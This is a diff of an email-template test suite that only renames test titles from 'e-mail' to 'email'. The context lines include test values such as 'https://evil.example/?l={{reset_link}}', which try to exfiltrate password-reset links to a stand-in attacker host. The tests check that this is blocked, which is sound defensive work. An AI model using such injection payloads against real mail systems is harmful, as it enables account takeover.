@@ -23,7 +23,7 @@ test("a stored subject with a private link is sent without it", async () => {
   expect(mail?.text).toContain("/sign-in/new-password/");
 });
 
-test("the postal address below an e-mail can't carry its links away", async () => {
+test("the postal address below an email can't carry its links away", async () => {
   const ctx = await createTestContext();
   const address = "https://evil.example/?l={{reset_link}}";
   await inTransaction(ctx, (tx) => tx.db.insert(settings).values({ group: "general", key: "address", value: address }));
@@ -33,7 +33,7 @@ test("the postal address below an e-mail can't carry its links away", async () =
   expect(mail?.text).not.toMatch(/evil\.example\/\?l=http/);
 });
 
-test("a preview refuses a private link where the e-mail would", async () => {
+test("a preview refuses a private link where the email would", async () => {
   const ctx = await createTestContext();
   const preview = createTemplatePreviewHandler(mailDefinitions);
   const text = { subject: "{{reset_link}}", body: "https://evil.example/?l={{reset_link}}" };
